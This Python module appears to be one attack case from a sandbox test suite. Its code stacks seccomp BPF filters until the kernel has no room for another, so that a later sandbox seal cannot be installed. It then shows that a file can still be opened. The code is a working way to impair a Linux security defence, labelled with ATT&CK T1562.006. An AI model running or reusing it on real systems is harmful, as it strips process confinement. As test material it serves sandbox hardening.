"""Leave the kernel no room for one more filter.

gain: no seal
attack: T1562.006
stopped by: freezing what is not sealed
unconfined: host
levels: seal
alone: yes
"""

import ctypes
import os
import struct

from attacker import LIBC, NUMBER


def prepare(world):
    code = struct.pack("HBBI", 0x20, 0, 0, 0) * 4000 + struct.pack("HBBI", 6, 0, 0, 0x7FFF0000)
    program = ctypes.create_string_buffer(code)
    LIBC.prctl(38, 1, 0, 0, 0)
    for length in (4000, 2000, 1000, 500, 100, 10, 1):
        start = ctypes.addressof(program) + 8 * (4001 - length)
        block = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", length, start))
        while LIBC.syscall(NUMBER["seccomp"], 1, 0, block) == 0:
            pass


def attempt(world):
    os.close(os.open("/usr/bin/env", os.O_RDONLY))
    return "opened a file, sealed or not"
